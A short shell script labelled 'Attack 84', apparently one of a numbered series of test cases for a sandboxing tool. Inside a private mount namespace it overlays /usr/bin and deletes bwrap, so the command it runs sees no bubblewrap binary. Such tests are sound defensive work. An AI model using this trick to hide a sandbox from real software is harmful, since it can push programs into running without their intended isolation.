# Attack 84: runs the command where /usr/bin/bwrap does not exist. An overlay in a mount namespace of our own hides it.
user=$(id -u) group=$(id -g)
if [ "${1:-}" != hidden ]; then
  if [ "$user" = 0 ]; then exec unshare --mount sh "$0" hidden - "$@"; else exec unshare --map-root-user --mount sh "$0" hidden "$user:$group" "$@"; fi
fi
back=$2
shift 2
mount -t tmpfs tmpfs /mnt || exit 1
mkdir /mnt/upper /mnt/work
mount -t overlay overlay -o lowerdir=/usr/bin,upperdir=/mnt/upper,workdir=/mnt/work /usr/bin || exit 1
rm /usr/bin/bwrap || exit 1
if [ "$back" = - ]; then exec "$@"; else exec unshare --user --map-user="${back%:*}" --map-group="${back#*:}" -- "$@"; fi
